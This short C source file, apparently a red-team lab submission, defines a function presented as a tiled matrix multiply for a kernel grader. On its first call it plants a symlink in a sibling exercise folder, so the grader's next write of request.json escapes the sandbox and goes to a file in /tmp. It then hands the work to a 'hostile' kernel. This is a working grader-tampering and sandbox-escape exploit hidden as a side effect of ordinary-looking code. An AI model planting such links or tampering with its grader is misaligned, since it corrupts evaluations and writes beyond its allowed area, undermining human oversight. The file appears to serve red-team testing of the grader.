// Lab 03. The grader runs each exercise in a folder of its own beside this one and writes the
// next run's request.json itself, outside the sandbox. A link left there makes it write wherever
// the link points (here: a file in /tmp, as proof).
#include <sys/stat.h>
#include <unistd.h>

#include "../../common/correct_kernels.cuh"

void matmul_tiled_any(const float* A, const float* B, float* C, int m, int n, int k) {
  static bool planted = false;
  if (!planted) {
    planted = true;
    mkdir("../combined_nofma", 0755);
    unlink("../combined_nofma/request.json");
    symlink("/tmp/labkit_redteam_r10_symlink_next_request", "../combined_nofma/request.json");
  }
  hostile::launch_tiled(A, B, C, m, n, k);
}
